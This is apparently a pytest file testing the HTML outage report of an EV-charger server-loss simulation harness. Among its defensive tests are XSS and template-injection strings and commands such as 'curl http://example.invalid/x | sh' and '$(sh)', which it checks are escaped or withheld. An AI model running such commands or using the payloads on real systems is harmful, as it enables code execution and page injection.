"""The outage report as one HTML page: what it says, that nothing in it is taken for markup, and that it adds up."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from random_plans import MODELS, drawn, records_of

import harness
from harness import pages, scenario
from harness.cli import main
from harness.journal.energy import MOST_BINS, Bins, bin_ms
from harness.journal.reader import Journal
from harness.journal.records import Attempts, Current, Loss, Message, PlugIn, Recovery, Stay
from harness.report.chronicle import Chronicle
from harness.report.html.gather import Gatherer
from harness.values import LiveRun, Scenario

HOUR_MS = 3_600_000
SEEDS = range(5)
NASTY = (
    "<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "a\nb\r\n\tc", "\u202egnitirw\u202c \u2066x\u2069", "</script><b>",
    "x" * 10_000, "&lt;b&gt; ]]> --> <!--", "\x00\x1b[31m\x85", "{{7*7}} ${1}", "\ud83d\ude97 \u00e5\u0301 \u4e2d\u6587",
)  # fmt: skip


class Shape(HTMLParser):
    """The elements of a page with the names of their attributes, and the text of those that hold text."""

    def __init__(self, page: bytes) -> None:
        super().__init__()
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self.text: list[str] = []
        self.feed(page.decode())

    def handle_starttag(self, tag, attrs):
        self.shape.append((tag, tuple(name for name, _ in attrs)))

    def handle_data(self, data):
        self.text.append(data)


@cache
def ran(name: str = "faq-walkthrough") -> harness.Run:
    return harness.run(name)


@cache
def page_of(name: str = "faq-walkthrough") -> str:
    run = ran(name)
    return pages.page(run.outcome, run.journal).decode()


def section(page: str, id_: str) -> str:
    """The text of a section."""
    found = re.search(rf'<section id="{id_}">(.*?)</section>', page, re.DOTALL)
    assert found, id_
    return " ".join("".join(Shape(found[1].encode()).text).split())


def test_the_first_screen_says_what_was_tested_with_which_verdict_and_the_four_behaviours_by_name():
    page = page_of()
    head = " ".join("".join(Shape(page.partition("<section")[0].encode()).text).split())
    assert "SIMULATED" in head
    assert "✓ PASS" in head
    assert "5 of 5 chargers lost their server" in head
    four = section(page, "behaviours")
    for behaviour, count in (
        ("charging continues", "5 times"), ("TOU is suspended", "5 times"), ("unplugging clears the schedule", "twice"),
        ("an override is needed after recovery", "7 times"),
    ):  # fmt: skip
        assert re.search(rf"{behaviour} kept[^;]*put to the test {count};", four)


def test_a_behaviour_that_nothing_exercised_is_said_to_be_untested():
    four = section(page_of("server-gone-for-good"), "behaviours")
    assert re.search("an override is needed after recovery never put to the test.*not exercised in this run", four)


def test_a_behaviour_that_no_maker_here_promises_is_not_called_untested():
    four = section(page_of("outage-wallbox-managed"), "behaviours")
    assert re.search("TOU is suspended With the server away, [^?]*nobody here is held to it", four)
    assert "never put to the test" not in four


def test_what_it_cost_is_the_difference_from_the_run_without_the_faults():
    metrics = ran().metrics
    cost = section(page_of(), "cost")
    extra, missing = metrics["extra_cost"], metrics["undelivered_energy"]
    assert f"{extra.value:.2f} USDmore paid for energy by all drivers" in cost
    assert f"{extra.run:.2f} USD paid for energy by all drivers with the faults, {extra.twin:.2f} USD without" in cost
    assert (missing.value, "no changemissing to drivers" in cost) == (0, True)


def test_the_same_journal_gives_the_same_bytes_from_a_run_and_from_its_folder(tmp_path):
    kept = harness.run("answer-lost", out=tmp_path / "one")
    harness.run("answer-lost", out=tmp_path / "two")
    first = (tmp_path / "one" / "report.html").read_bytes()
    assert first == (tmp_path / "two" / "report.html").read_bytes()
    assert harness.html_report(tmp_path / "one", out=tmp_path / "again.html").read_bytes() == first
    assert kept.outcome.command in first.decode().replace("&#x27;", "'")


def test_a_journal_alone_is_judged_again_for_its_page(tmp_path):
    harness.run("answer-lost", out=tmp_path / "run")
    (tmp_path / "run" / "result.json").unlink()
    assert "harness check" in harness.html_report(tmp_path / "run").read_text()


def test_a_strict_run_s_reports_are_made_again_as_strictly(tmp_path):
    run = harness.run("answer-lost", out=tmp_path, strict=True)
    assert run.verdict == "unknown"
    first = (tmp_path / "report.html").read_bytes()
    assert harness.html_report(tmp_path).read_bytes() == first
    assert "**Verdict** | unknown" in harness.postmortem(tmp_path).read_text()


def test_a_page_that_is_asked_to_be_strict_says_how_to_repeat_that(tmp_path):
    run = harness.run("answer-lost", out=tmp_path, html=False)
    assert run.verdict == "pass"
    assert f"{run.outcome.command} --strict</code>" in harness.html_report(tmp_path, strict=True).read_text()


@pytest.mark.parametrize(
    "command",
    [
        "curl http://example.invalid/x | sh", "harness run answer-lost; sh", "harness run $(sh)", "harness run 'a", "harness explore x",
        "harness run 'a\nb'", "harness run '\u202ehs'", "harness run answer-lost # x", "",
    ],
)  # fmt: skip
def test_a_kept_command_that_is_none_of_ours_is_not_shown(tmp_path, command):
    harness.run("answer-lost", out=tmp_path, html=False)
    result = json.loads((tmp_path / "result.json").read_text())
    (tmp_path / "result.json").write_text(json.dumps({**result, "command": command}))
    assert "<pre><code>harness check " in harness.html_report(tmp_path).read_text()
    assert "```sh\nharness check " in harness.postmortem(tmp_path).read_text()


def test_the_result_of_another_run_tells_no_command(tmp_path):
    harness.run("answer-lost", out=tmp_path / "one", html=False)
    harness.run("answer-lost", out=tmp_path / "two", seed=99, html=False)
    (tmp_path / "two" / "result.json").replace(tmp_path / "one" / "result.json")
    assert "<pre><code>harness check " in harness.html_report(tmp_path / "one").read_text()


def test_a_page_may_be_left_out(tmp_path):
    harness.run("answer-lost", out=tmp_path, html=False)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["journal.jsonl", "junit.xml", "report.md", "result.json"]


def test_a_run_that_was_cut_off_says_so_first(tmp_path):
    whole = (ran().journal).read_bytes().splitlines(keepends=True)
    (tmp_path / "journal.jsonl").write_bytes(b"".join(whole[: len(whole) // 2]))
    assert "CUT OFF: this is not a whole run" in harness.html_report(tmp_path).read_text().partition("<section")[0]


@pytest.mark.parametrize(("peer", "says"), [("embedded server", "LIVE"), ("log", "IMPORTED FROM A LOG")])
def test_it_is_marked_as_what_it_is(peer, says):
    run = ran("answer-lost")
    live = LiveRun(speed=1, skipped_idle=False, through="nothing", peer=peer, lost="inferred")
    page = pages.page(replace(run.outcome, live=live), run.journal)
    assert f'<span class="made">{says}</span>' in page.decode()


# Failures.


@cache
def failed() -> harness.Run:
    return harness.run("faq-walkthrough", overrides=["models.juicebox-40.quirks=[renews-hold-offline]", "plan.crash.for=9 h"])


def test_a_failure_is_told_first_pinned_on_its_lane_and_drawn_as_a_sequence():
    run = failed()
    page = pages.page(run.outcome, run.journal).decode()
    broken = [check for check in run.judgement.checks if check.witness]
    assert broken
    told = section(page, "failed")
    pins = re.findall(r'<a class="pin" href="#failure-(\d+)"[^>]*aria-label="([^"]*)"', page)
    drawn_for: set[tuple[str, int]] = set()
    for place, check in enumerate(broken):
        assert check.says in told
        assert any(f"{check.name} failed at" in words for _, words in pins)
        article = re.search(rf'<article id="failure-{place}">(.*?)</article>', page, re.DOTALL)
        assert article
        rows = re.findall(r"<li>.*?</li>|<li class=\"broken\">.*?</li>", article[1])
        witness = (check.witness.charger, check.witness.t)
        assert sum('class="broken"' in row for row in rows) == (witness not in drawn_for)
        drawn_for.add(witness)
        assert check.witness.charger in article[1]
    assert all(f'id="failure-{place}"' in page for place, _ in pins)


# A run that was cut off, and a last bin that is no whole one.


def page_data(page: bytes) -> dict:
    return json.loads(re.search(r'<script type="application/json" id="run">(.*?)</script>', page.decode())[1])


def test_nothing_is_drawn_or_told_beyond_a_cut(tmp_path):
    whole = ran().journal.read_bytes().splitlines(keepends=True)
    (tmp_path / "journal.jsonl").write_bytes(b"".join(whole[: len(whole) // 2]))
    data = page_data(harness.html_report(tmp_path).read_bytes())
    last_s = harness.judge(tmp_path).outcome.outline.end_ms // 1000
    assert 0 < last_s < data["width"] * data["unit"]
    for name, *steps in data["lanes"]:
        if not name.startswith("tariff"):
            assert (steps[-2], data["meanings"][steps[-1]]) == (last_s // data["unit"], "nothing is known: the journal ends before")
    bins = -(-last_s // data["bin"])
    assert {len(values) for _, _, _, *series in data["series"] for values in series} == {bins}
    assert not any("the journal ends before" in words for words in page_data(page_of().encode())["meanings"])


def test_the_power_of_a_bin_is_that_of_the_time_it_has():
    plan = msgspec.structs.replace(plain_scenario(), duration_ms=6 * HOUR_MS + 30_000)
    it = Gatherer(plan)
    assert it.width_ms == 60_000
    it.feed([
        Current(t=5 * HOUR_MS, who="anna", state="Charging", reason="unit-rating", ma=30_000, wh=0),
        Attempts(t=plan.duration_ms, who="ben", first=6 * HOUR_MS, last=plan.duration_ms - 1, count=60),
        Current(t=plan.duration_ms, who="anna", state="Charging", reason="unit-rating", ma=30_000, wh=7_260),
    ])  # fmt: skip
    it.close(plan.duration_ms)
    power = it.kw(it.bins.wh())
    assert power[-2:] == [pytest.approx(7.2, abs=0.1)] * 2
    assert it.tries_per_s()[-1] == 2
    assert len(power) == it.known == it.count == 361
    it.close(6 * HOUR_MS - 30_000)  # as a run that was cut off there
    assert (it.known, len(it.states()["charging"]), len(it.kw(it.bins.wh()))) == (360, 360, 360)
    assert it.kw([60] * 360)[-2:] == [3.6, 7.2]


# What is gathered adds up.


@cache
def gathered(model: str, seed: int):
    plan = drawn(model, seed)
    records = records_of(plan)
    it = Gatherer(plan)
    it.feed(records)
    it.close(plan.duration_ms)
    return plan, records, it


every = pytest.mark.parametrize(("model", "seed"), [(model, seed) for model in MODELS for seed in SEEDS])


@every
def test_the_energy_of_all_bins_is_what_all_cars_took(model, seed):
    _, records, it = gathered(model, seed)
    took = sum(record.wh for record in records if isinstance(record, Stay))
    assert abs(sum(it.bins.wh()) - took) <= it.count / 2 + 3 * len(it.courses)


@every
def test_a_course_has_no_gap_and_tells_what_the_records_do(model, seed):
    plan, records, it = gathered(model, seed)
    for course in it.courses.values():
        stretches = list(it.course_of(course))
        edges = [stretch.begins for stretch in stretches] + [plan.duration_ms]
        assert edges[0] == 0
        assert [stretch.ends for stretch in stretches] == edges[1:]
        drew = sum(stretch.ends - stretch.begins for stretch in stretches if stretch.ma)
        own = [record for record in records if isinstance(record, Current) and record.who == course.name]
        pairs = zip(own, [*own[1:], None], strict=True)
        assert drew == sum((after.t if after else plan.duration_ms) - record.t for record, after in pairs if record.ma)


@every
def test_all_chargers_are_in_some_state_at_any_time_and_none_is_online_twice(model, seed):
    _, _, it = gathered(model, seed)
    states = it.states()
    assert {sum(states[kind][place] for kind in states) for place in range(it.count)} == {len(it.courses)}
    assert all(0 <= low <= high <= len(it.courses) for low, high in it.online.bins(it.count))
    assert all(low >= 0 for low, _ in it.queue.bins(it.count))


@every
@pytest.mark.parametrize("share", [0.3, 0.6, 1])
def test_the_page_and_the_postmortem_count_the_same_sessions(model, seed, share):
    plan, records, _ = gathered(model, seed)
    kept = records[: int(len(records) * share)]
    it, chronicle = Gatherer(plan), Chronicle()
    for each in (it, chronicle):
        each.feed(kept)
    it.close(plan.duration_ms if share == 1 else kept[-1].t)
    chronicle.close()
    assert (it.sessions, it.sessions_affected) == (chronicle.sessions, chronicle.sessions_affected)


def test_a_session_with_a_blip_in_it_was_not_without_the_server_and_one_that_a_cut_left_open_was():
    def counted(*records, ends=9 * HOUR_MS):
        it, chronicle = Gatherer(plain_scenario()), Chronicle()
        for each in (it, chronicle):
            each.feed([msgspec.structs.replace(record, t=place * HOUR_MS, who="anna") for place, record in enumerate(records)])
        it.close(ends)
        chronicle.close()
        assert (it.sessions_affected, it.sessions) == (chronicle.sessions_affected, chronicle.sessions)
        return it.sessions_affected, it.sessions

    come = PlugIn(t=0, plug_in=1, car="bolt", needs_wh=1, leave=0)
    gone = Stay(t=0, plug_in=1, wh=1, needs_wh=1, ended="unplugged", full=False)
    lost = Loss(t=0, cause="link")
    back, blip = Recovery(t=0, since=0), Recovery(t=0, since=0, blip=True)
    assert counted(lost, come, blip, gone) == (0, 1)
    assert counted(come, lost, blip, gone) == (0, 1)
    assert counted(lost, come, gone, blip, come, gone) == (0, 2)
    assert counted(lost, come, gone, blip, lost, back) == (0, 1)
    assert counted(lost, come, back, gone) == (1, 1)
    assert counted(lost, come, gone, back, come, gone) == (1, 2)
    assert counted(lost, come, gone, come, gone, back) == (2, 2)
    assert counted(come, lost, back, lost, blip, gone) == (1, 1)
    assert counted(come, lost, back) == counted(come, lost) == counted(lost, come) == counted(lost, come, gone) == (1, 1)
    assert counted(come, lost, blip) == (0, 1)


def test_idle_time_is_that_of_a_car_that_wanted_to_charge_and_told_by_reason_with_the_server_and_without():
    it = Gatherer(plain_scenario())
    course = [
        PlugIn(t=HOUR_MS, who="anna", plug_in=1, car="bolt", needs_wh=1, leave=0),
        Current(t=HOUR_MS, who="anna", state="SuspendedEVSE", reason="tou-hold", ma=0, wh=0),
        Loss(t=2 * HOUR_MS, who="anna", cause="link"),
        Current(t=3 * HOUR_MS, who="anna", state="Charging", reason="unit-rating", ma=32_000, wh=0),
        Recovery(t=4 * HOUR_MS, who="anna", since=2 * HOUR_MS),
        Current(t=4 * HOUR_MS, who="anna", state="SuspendedEV", reason="vehicle-full", ma=0, wh=9),
        Stay(t=5 * HOUR_MS, who="anna", plug_in=1, wh=9, needs_wh=9, ended="unplugged", full=True),
    ]
    it.feed(course)
    it.close(6 * HOUR_MS)
    assert it.idle == {"tou-hold": [HOUR_MS, HOUR_MS]}


def test_a_transaction_s_message_is_late_beyond_what_its_charger_waits_for_an_answer():
    plan = plain_scenario()
    patience_ms = plan.models["juicebox-40"].link.answer_timeout_ms
    it = Gatherer(plan)
    it.feed([
        Message(t=HOUR_MS + patience_ms, who="anna", action="transaction-start", sent=HOUR_MS, at=HOUR_MS, tx=1),
        Message(t=2 * HOUR_MS + patience_ms + 1, who="anna", action="transaction-end", sent=HOUR_MS, at=2 * HOUR_MS, tx=1),
        Message(t=3 * HOUR_MS, who="anna", action="transaction-end", sent=HOUR_MS, at=2 * HOUR_MS, tx=1, repeat=True),
        Message(t=4 * HOUR_MS, who="anna", action="meter-values", sent=HOUR_MS, at=HOUR_MS, tx=1),
    ])  # fmt: skip
    assert {name: account.late for name, account in it.ledger.items()} == {"transaction-start": 0, "transaction-end": 1, "meter-values": 0}
    assert it.ledger["transaction-end"].again == 1


@every
def test_what_waits_at_the_end_is_what_the_queue_holds(model, seed):
    _, _, it = gathered(model, seed)
    assert it.queue.now == sum(len(course.waiting) for course in it.courses.values())


@given(st.integers(1, 400 * 24 * HOUR_MS))
def test_bins_are_few_and_cover_the_run(duration_ms):
    width_ms = bin_ms(duration_ms)
    assert 1 <= -(-duration_ms // width_ms) <= MOST_BINS


@given(st.lists(st.tuples(st.integers(0, 10 * HOUR_MS), st.integers(0, 10 * HOUR_MS), st.integers(1, 50_000)), max_size=8))
def test_no_energy_is_lost_in_bins(flows):
    bins = Bins(10 * HOUR_MS)
    for one, other, wh in flows:
        bins.add(min(one, other), max(one, other), wh)
    inside = sum(wh for one, other, wh in flows if max(one, other) < 10 * HOUR_MS)
    total = sum(bins.wh())
    assert inside - len(bins.wh()) <= total <= sum(wh for *_, wh in flows) + len(bins.wh())


def test_the_twins_energy_stands_in_the_footer():
    footer = Journal(ran().journal).footer
    assert footer is not None
    assert len(footer.twin_wh) == 24 * HOUR_MS // bin_ms(24 * HOUR_MS)
    drivers_need = sum(session.needs_wh for entry in ran().scenario.chargers for session in entry.sessions)
    assert 0 < sum(footer.twin_wh) <= drivers_need + len(footer.twin_wh) / 2


# Size, and what a text may hold.


@pytest.mark.parametrize("name", ["power-cut-in-outage", "faq-walkthrough", "closed-for-repair"])
def test_a_page_is_small(name):
    assert len(page_of(name)) < 300_000


def test_nothing_is_fetched():
    page = page_of()
    assert re.findall(r"""(?:src|href)=["'](?!#)""", page) == []
    assert "url(" not in page
    assert "http" not in re.sub(r"<td>.*?</td>", "", page.replace('http-equiv="', ""))  # sources are cited, not fetched


@cache
def plain_scenario() -> Scenario:
    """One that says as little as it can, and fails."""
    return scenario.loads(
        """\
harness: 1
title: plain
why: why
start: 2026-03-12 16:00
zone: America/Los_Angeles
duration: 6 h
seed: 1
server: juicenet
network: ethernet
supply: {voltage: 240 V}
models: {juicebox-40: {server_loss: {new_car: refused}}}
defaults: {model: juicebox-40, car: bolt, tariff: pge-ev2-a}
chargers:
  anna: {session: {plug_in: 18:30, needs: 20 kWh, leave: 21:00}}
  ben: {session: {plug_in: 17:30, needs: 20 kWh, leave: 21:00}}
plan:
  - {id: crash, at: 18:00, do: server.crash, for: 2 h}
  - {id: cut, at: 18:10, do: network.cut, for: 1 h}
""",
        "plain",
    )


def renamed(text: str) -> bytes:
    """The page of a run in which this stands wherever somebody else's words can."""
    loaded = plain_scenario()
    chargers = tuple(msgspec.structs.replace(entry, name=f"{text}{place}", tag=text) for place, entry in enumerate(loaded.chargers))
    plan = tuple(msgspec.structs.replace(step, id=f"{text}{place}") for place, step in enumerate(loaded.plan))
    tariffs = {key: msgspec.structs.replace(tariff, name=text) for key, tariff in loaded.tariffs.items()}
    models = {
        key: msgspec.structs.replace(
            model, title=text, claims={f"{text}{place}": claim for place, claim in enumerate(model.claims.values())}
        )
        for key, model in loaded.models.items()
    }  # fmt: skip
    given_ = msgspec.structs.replace(
        loaded, title=text, why=f"why {text}", name=text, chargers=chargers, plan=plan, tariffs=tariffs, models=models,
    )  # fmt: skip
    run = harness.run(given_, twin=False)
    return pages.page(run.outcome, run.journal)


@cache
def plainly() -> list[tuple[str, tuple[str, ...]]]:
    return Shape(renamed("plain")).shape


@pytest.mark.parametrize("text", NASTY, ids=range(len(NASTY)))
def test_a_text_from_elsewhere_is_never_markup(text):
    page = renamed(text.encode("utf-8", "replace").decode())
    assert Shape(page).shape == plainly()
    (kept,) = re.findall(r'<script type="application/json" id="run">(.*?)</script>', page.decode(), re.DOTALL)
    json.loads(kept)
    assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069]", page.decode())
    assert len(page) < 300_000


@given(st.text(max_size=40))
def test_no_text_is(text):
    assert Shape(renamed(text.encode("utf-8", "replace").decode())).shape == plainly()


# What responders do.


@cache
def answered() -> str:
    """The page of an outage to which responders answer before it begins and while it lasts."""
    loaded = scenario.loads(
        """\
harness: 1
title: answered
why: why
start: 2026-03-12 16:00
zone: America/Los_Angeles
duration: 6 h
seed: 1
server: juicenet
network: ethernet
supply: {voltage: 240 V}
defaults: {model: juicebox-40, car: bolt, tariff: pge-ev2-a}
chargers: {anna: {session: {plug_in: 17:30, needs: 20 kWh, leave: 21:00}}}
plan:
  - {id: ready, at: 17:00, do: server.scale-out, for: 4 h}
  - {id: crash, at: 18:00, do: server.crash, for: 2 h}
  - {id: gently, at: 19:50, do: server.admit, with: {accepts: 1}, for: 1 h}
""",
        "answered",
    )
    run = harness.run(loaded)
    return pages.page(run.outcome, run.journal).decode()


def test_what_responders_do_is_drawn_and_told_apart_from_faults():
    page = answered()
    drawn = re.search(r'<section id="timeline">(.*?)</section>', page, re.DOTALL)
    assert drawn
    lanes = re.findall(r'<div class="label(?: group)?">(?:<bdi>)?([^<]*)(?:</bdi>)?</div>(?:<div class="cell">(.*?)</svg>)?', drawn[1])
    assert [name for name, _ in lanes if name][:4] == ["crash", "Responders", "ready", "gently"]
    kinds = {name: re.findall('class="s ([a-z]+)"', svg) for name, svg in lanes}
    assert (kinds["crash"], kinds["ready"], kinds["gently"]) == (["fault"], ["response"], ["response"])
    assert "a fault actswhat responders do" in section(page, "timeline")
    head = " ".join("".join(Shape(page.partition("<section")[0].encode()).text).split())
    assert "Faults: server crash Thu 18:00 to Thu 20:00 (2 h). Responders: server scale out Thu 17:00 to Thu 21:00 (4 h); " in head
    assert "server.admit, by responders" in section(page, "plan")
    assert "server.crash, by" not in section(page, "plan")
    (kept,) = re.findall(r'<script type="application/json" id="run">(.*?)</script>', page, re.DOTALL)
    meanings = json.loads(kept)["meanings"]
    assert {"server.crash acts for 2 h", "responders: server.admit for 1 h"} <= set(meanings)


@pytest.mark.parametrize("do", ["server.brown-out, with: {answers: 5}", "server.admit, with: {accepts: 5}", "server.scale-out"])
def test_the_way_back_has_no_fixed_limit_where_a_step_changes_it(do):
    assert "it takes 200 per s" in section(page_of(), "timeline")
    changed = harness.run("faq-walkthrough", overrides=[f"plan.crash={{id: crash, at: 18:00, do: {do}, for: 2 h}}"], twin=False)
    assert "steps of the plan change how many it takes" in section(pages.page(changed.outcome, changed.journal).decode(), "timeline")


def test_where_nobody_responds_no_responders_are_spoken_of():
    page = page_of()
    assert "a fault acts" in section(page, "timeline")
    assert "esponders" not in page


# Since a baseline, two runs, several runs.


@pytest.fixture
def two(tmp_path):
    """The folder of a run, and of one in which chargers renew their holds."""
    harness.run("faq-walkthrough", out=tmp_path / "before", html=False)
    harness.run(
        "faq-walkthrough", out=tmp_path / "after", html=False,
        overrides=["models.juicebox-40.quirks=[renews-hold-offline]", "plan.crash.for=9 h"],
    )  # fmt: skip
    return tmp_path


def test_a_page_tells_what_has_changed_since_another_run(two):
    told = section(harness.html_report(two / "after", baseline=two / "before").read_text(), "change")
    assert "check can-always-chargenew failurepass → fail" in told
    assert "As before:" in told
    assert "nothing is worse" in section(harness.html_report(two / "after", baseline=two / "after").read_text(), "change")


def test_a_page_tells_what_has_changed_since_what_a_gate_keeps(two):
    baseline = two / "baseline.yaml"
    harness.gate(["faq-walkthrough"], baseline, update=True)
    assert "new failure" in section(harness.html_report(two / "after", baseline=baseline).read_text(), "change")
    harness.gate(["answer-lost"], two / "other.yaml", update=True)
    with pytest.raises(harness.ScenarioError, match="no such run in this baseline"):
        harness.html_report(two / "after", baseline=two / "other.yaml")


def test_without_a_baseline_nothing_is_said_of_one():
    assert 'id="change"' not in page_of()


def test_two_runs_compared_are_a_page_of_their_own(two, capsys):
    assert main(["compare", str(two / "before"), str(two / "after"), "--format", "html"]) == 1
    page = capsys.readouterr().out
    assert page.startswith("<!doctype html>")
    assert "<script" not in page
    assert "new failure" in section(page, "change")


def test_several_runs_have_an_index_that_leads_to_their_pages(tmp_path, capsys):
    assert main(["run", "answer-lost", "faq-walkthrough", "--out", str(tmp_path)]) == 0
    index = (tmp_path / "index.html").read_text()
    linked = re.findall(r'href="([^"]+)"', index)
    assert linked == ["answer-lost/report.html", "faq-walkthrough/report.html"]
    assert all((tmp_path / each).is_file() for each in linked)


def test_the_command_makes_a_page_and_says_where(two, capsys):
    assert main(["report", str(two / "after")]) == 0
    assert capsys.readouterr().out.strip() == str(two / "after" / "report.html")
    assert main(["report", str(two / "nothing")]) == 4
